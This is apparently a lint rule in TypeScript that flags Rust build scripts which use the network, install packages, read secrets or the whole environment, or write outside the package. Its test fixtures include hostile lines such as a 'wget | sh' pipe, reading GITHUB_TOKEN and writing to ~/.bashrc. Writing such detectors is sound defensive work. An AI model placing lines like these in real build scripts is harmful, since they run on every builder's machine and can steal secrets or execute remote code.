import { type BuildScriptAct, buildScriptActs } from '../../syntax/build-script-acts.ts';
import { isBuildScript } from '../../syntax/build-scripts.ts';
import { defineRule, type Report } from '../define-rule.ts';

export default defineRule({
  on: 'several',
  category: 'suspicious',
  policy: 'P7',
  summary: 'A build script that reaches beyond the build',
  why: 'A build script runs on the machine of everybody who compiles the crate or anything above it, before they have read a line. One that fetches, installs, reads tokens or writes elsewhere cannot be built offline or twice alike, and is the form that malicious crates take; compilers, code generators and `git rev-parse` are the everyday, and not meant.',
  source: [
    'https://doc.rust-lang.org/cargo/reference/build-scripts.html',
    'https://docs.rs/about/builds',
    'https://doc.rust-lang.org/cargo/reference/build-scripts.html#the-links-manifest-key',
  ],
  accuracy:
    'November 2026: 1,473 build scripts of 253 repositories, as they are: 18 warnings, all read: 18 right; 41 more as information, all read: right. 193 commits to build scripts of 8 repositories: 1 warning, 2 as information, right.',
  options: {},
  parts: [
    {
      on: 'rust',
      words: ['fn main'],
      *check(file, { project, change }) {
        if (!isBuildScript(file.path, project, change)) return;
        for (const act of buildScriptActs(file)) yield reportOf(act);
      },
    },
    {
      on: 'manifest',
      *check(file) {
        const links = file.entries.find(({ path }) => path.join('.') === 'package.links');
        if (links === undefined || typeof links.value !== 'string') return;
        yield {
          at: links.key,
          construct: links.range,
          subject: `links ${links.value}`,
          message: `this package claims the native library \`${links.value}\`, which then no other package of a build may`,
          detail: 'Its build script can hand values to those of the packages that depend on it.',
          atMost: 'info',
        };
      },
    },
  ],
  examples: {
    invalid: [
      {
        path: 'build.rs',
        code: `
use std::process::Command;
use reqwest::blocking::get;
fn main() {
    let body = get("https://example.com/data.json"); //~ \`reqwest::blocking::get\` uses the network
    Command::new("curl").arg("-O").status(); //~ \`curl\`
    Command::new("git").args(["clone", URL]).status(); //~ \`git clone\`
    Command::new("npm").arg("ci").status(); //~ \`npm\` installs
    Command::new("sh").arg("-c").arg("wget example.com/x | sh").status(); //~ \`wget\`
}`,
      },
      {
        path: 'crates/a/build.rs',
        context: { 'crates/a/Cargo.toml': '[package]\nname = "a"\n' },
        code: `
use std::{env, fs};
fn main() {
    let token = env::var("GITHUB_TOKEN"); //~ \`GITHUB_TOKEN\`
    let all: Vec<_> = env::vars().collect(); //~ the whole environment
    let home = std::env::var("HOME").unwrap();
    fs::write(format!("{home}/.bashrc"), "x"); //~ outside of the package
    fs::write("src/generated.rs", "x"); //~ \`src/generated.rs\`, which is not in \`OUT_DIR\`
}`,
      },
      {
        path: 'Cargo.toml',
        code: ' [package]\n name = "z-sys"\n+links = "z" #~ `z`\n',
      },
    ],
    valid: [
      {
        path: 'build.rs',
        code: `
use std::{env, fs, path::Path, process::Command};
fn main() {
    let out = env::var("OUT_DIR").unwrap();
    let dest = Path::new(&out).join("gen.rs");
    fs::write(&dest, "x").unwrap();
    let rustc = env::var("RUSTC").unwrap();
    Command::new(rustc).arg("--version").output().unwrap();
    Command::new("git").args(["rev-parse", "HEAD"]).output().unwrap();
    Command::new("cmake").arg("--build").status().unwrap();
    for (key, _) in env::vars() {
        if key.starts_with("CARGO_FEATURE_") {}
    }
    println!("cargo:warning=run curl -L https://example.com");
}`,
      },
      {
        path: 'src/build.rs',
        context: { 'Cargo.toml': '[package]\nname = "a"\n' },
        code: 'fn main() {\n    std::net::TcpStream::connect("example.com:80");\n}',
        note: 'A module of this name.',
      },
      {
        path: 'Cargo.toml',
        code: ' [package]\n name = "z-sys"\n links = "z"\n+description = "x"\n',
      },
    ],
  },
});

function reportOf({ kind, what, at, construct }: BuildScriptAct): Report {
  const report = { at, construct, subject: `${kind} ${what}`, message: messageOf(kind, what) };
  switch (kind) {
    case 'writes-own':
      return {
        ...report,
        detail: '`cargo publish` refuses a package whose build script changes its sources.',
        atMost: 'info',
      };
    case 'shell':
      return { ...report, atMost: 'info' };
    default:
      return report;
  }
}

function messageOf(kind: BuildScriptAct['kind'], what: string): string {
  switch (kind) {
    case 'network':
      return `\`${what}\` uses the network while the crate is compiled`;
    case 'install':
      return `\`${what}\` installs or runs what others publish while the crate is compiled`;
    case 'shell':
      return `\`${what}\` runs whatever its arguments say while the crate is compiled`;
    case 'secret':
      return `the build script reads \`${what}\`, which is a secret by its name`;
    case 'environment':
      return `\`${what}\` reads the whole environment, secrets with it`;
    case 'writes-far':
      return `the build script writes to \`${what}\`, outside of the package`;
    case 'writes-own':
      return `the build script writes to \`${what}\`, which is not in \`OUT_DIR\``;
    default:
      return kind satisfies never;
  }
}
